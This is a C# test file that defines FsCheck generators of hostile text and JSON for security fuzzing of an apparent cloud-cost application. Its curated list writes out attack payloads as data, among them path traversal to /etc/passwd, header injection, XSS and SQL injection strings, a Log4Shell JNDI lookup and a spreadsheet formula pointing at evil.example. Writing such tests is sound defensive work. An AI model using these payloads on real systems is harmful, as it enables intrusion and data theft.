using System.Globalization;
using System.Text;
using FsCheck;
using FsCheck.Fluent;

namespace FinOps.Tests.Integration.Security.Sweep;

/// <summary>
/// Generators of hostile text and JSON: the classics (traversal, injection, control characters, lone surrogates, look-alike
/// slashes and dots, formula starters, out-of-range numbers and dates) mixed with FsCheck's own arbitrary strings.
/// JSON is produced as text so that numbers no parser holds (1e400, 2^64) and lone surrogate escapes can be sent.
/// </summary>
public static class HostileValues
{
    /// <summary>Hand-picked values that broke or could break a parser, a path, a log or a header.</summary>
    public static readonly string[] Curated =
    [
        "", " ", "\t", "0", "-1", "1.5", "1e400", "NaN", "-0", "18446744073709551616", "123456789012345678901234567890",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "/etc/passwd%00.json", "\u0000", "a\u0000b",
        "line\nbreak", "cr\rlf\r\nX-Injected: 1", "\u2028\u2029\u0085", "\u001b[31mred", "\u202Eevil", "\uFEFF", "\uFFFD",
        "\udfff", "\ud800", "a\ud800b", "😀", "日本語", "é", "。evil.example", "．/evil.example", "／／evil.example",
        "//evil.example", "/\\evil.example", "http://evil.example/", "javascript:alert(1)", "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>", "' OR '1'='1", "; DROP TABLE x; --", "{{7*7}}", "${jndi:ldap://evil.example/a}",
        "=HYPERLINK(\"http://evil.example\")", "+SUM(1,2)", "-2+3", "@cmd", "\t=1", "\r=1",
        "9999-12", "9999-12-30..9999-12-31", "0001-01", "0001-01-01..9999-12-31", "2026-13", "..", "last-month", "month-to-date",
        "all", "ec2:instance", "eu-west-1", "global", "af-south-1", "mars-north-1", "error", "warning", "csv", "pdf", "xlsx",
        "markdown", "json", "region", "service", "resource_type", "unblended", "amortized", "arn:aws:ec2:eu-west-1:123456789012:instance/i-0abc",
        "arn:aws:s3:::bucket", "arn:" + new string('x', 3000), new string('a', 5000), new string('/', 300), "%", "%zz", "%C0%AF", "%E2%80%AE",
        "*", "?", "#", "&", "=", "+", ";", ",", "|", "~", "`", "\\", "\"", "'",
    ];

    /// <summary>Any hostile text: mostly curated, the rest FsCheck's arbitrary strings and random characters.</summary>
    public static Gen<string> Text { get; } = Gen.Frequency(
        (6, Gen.Elements(Curated)),
        (2, ArbMap.Default.ArbFor<string>().Generator.Select(s => s ?? "")),
        (1, Gen.Choose(0, 0xFFFF).Select(c => (char)c).ArrayOf().Select(chars => new string(chars))),
        (1, Gen.Elements(Curated).ArrayOf(3).Select(parts => string.Concat(parts))));

    /// <summary>Hostile text without line breaks (what a header can carry at all).</summary>
    public static Gen<string> HeaderText { get; } = Text.Select(s => new string([.. s.Where(c => c is not ('\r' or '\n' or '\0'))]));

    /// <summary>A JSON number as text, including ones no 64-bit type holds.</summary>
    public static Gen<string> NumberText { get; } = Gen.Frequency(
        (3, Gen.Elements("0", "-1", "1", "7", "50", "500", "501", "100000", "-0", "1.5", "0.1", "1e2", "1E-7", "1e308", "1e400", "-1e400",
            "9223372036854775807", "9223372036854775808", "-9223372036854775809", "18446744073709551616", "123456789012345678901234567890")),
        (2, Gen.Choose(int.MinValue, int.MaxValue).Select(i => i.ToString(CultureInfo.InvariantCulture))),
        (1, ArbMap.Default.ArbFor<double>().Generator.Where(double.IsFinite).Select(d => d.ToString("R", CultureInfo.InvariantCulture))));

    /// <summary>A JSON string literal of hostile text; non-ASCII and surrogates are sometimes escaped, so lone surrogates arrive as <c>\udfff</c>.</summary>
    public static Gen<string> StringLiteral { get; } =
        from text in Text
        from escapeAll in Gen.Elements(false, true)
        select Quote(text, escapeAll);

    /// <summary>Any JSON value as text, nested up to <paramref name="depth"/> levels.</summary>
    public static Gen<string> JsonValue(int depth)
    {
        var scalar = Gen.Frequency(
            (1, Gen.Elements("null", "true", "false")),
            (2, NumberText),
            (3, StringLiteral));
        if (depth <= 0)
        {
            return scalar;
        }

        var inner = JsonValue(depth - 1);
        var array = inner.ListOf().Select(items => "[" + string.Join(",", items.Take(6)) + "]");
        var obj = Gen.Zip(Gen.Elements(Curated).Select(n => Quote(n, false)), inner).ListOf()
            .Select(members => "{" + string.Join(",", members.Take(6).Select(m => m.Item1 + ":" + m.Item2)) + "}");
        return Gen.Frequency((6, scalar), (1, array), (1, obj));
    }

    /// <summary>A JSON string literal of <paramref name="text"/>, escaping what JSON requires (and, if asked, everything beyond ASCII).</summary>
    public static string Quote(string text, bool escapeNonAscii)
    {
        ArgumentNullException.ThrowIfNull(text);
        var json = new StringBuilder(text.Length + 2).Append('"');
        foreach (var c in text)
        {
            if (c is '"' or '\\')
            {
                json.Append('\\').Append(c);
            }
            else if (c < ' ' || char.IsSurrogate(c) || (escapeNonAscii && c > '~'))
            {
                // A lone surrogate cannot be written as UTF-8, only escaped.
                json.Append("\\u").Append(((int)c).ToString("x4", CultureInfo.InvariantCulture));
            }
            else
            {
                json.Append(c);
            }
        }

        return json.Append('"').ToString();
    }
}
